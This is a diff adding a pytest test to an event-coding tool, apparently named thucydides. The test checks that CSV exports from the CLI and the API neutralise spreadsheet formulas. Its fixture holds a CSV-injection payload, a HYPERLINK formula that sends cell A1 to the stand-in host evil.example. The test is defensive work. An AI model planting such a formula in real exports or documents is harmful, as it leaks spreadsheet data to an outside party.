@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 
 import duckdb
 import pytest
@@ -189,3 +190,27 @@ def test_quotes_name_their_speakers_and_index_the_article(client, truth):
     spoken = client.get("/api/quotes", params={"speaker": "usa"}).json()["quotes"]
     assert spoken and all(q["speaker_code"].startswith("USA") for q in spoken)
     assert client.get("/api/quotes", params={"speaker": "not a code"}).status_code == 422
+
+
+def test_csv_cells_that_would_run_as_formulas_are_quoted(tmp_path):
+    # Stored text is input: opened in a spreadsheet, "=HYPERLINK(...)" would run.
+    from fastapi.testclient import TestClient
+    from typer.testing import CliRunner
+
+    from thucydides.api import create_app
+    from thucydides.cli import _register_commands, app
+
+    _register_commands()
+    corpus = tmp_path / "formula.jsonl"
+    text = '=HYPERLINK("https://evil.example/?"&A1,"x") Turkish police detained 1,879 protesters in Istanbul.'
+    corpus.write_text('{"id": "f1", "text": ' + json.dumps(text) + "}\n", encoding="utf-8")
+    db = tmp_path / "events.duckdb"
+    assert CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db)]).exit_code == 0
+    exported = CliRunner().invoke(app, ["export", "--db", str(db), "--format", "csv"]).stdout
+    coded = CliRunner().invoke(app, ["code", str(corpus), "--format", "csv"]).stdout
+    with TestClient(create_app(db, snapshot_dir=tmp_path), base_url="http://localhost") as c:
+        served = c.get("/api/events", params={"format": "csv"}).text
+    for table in (exported, coded, served):
+        (row,) = list(csv.DictReader(io.StringIO(table)))
+        assert row["sentence_text"] == "'" + text and row["code"] == "173"
+        assert row["goldstein"] == "-5.0"  # numbers are left as they are
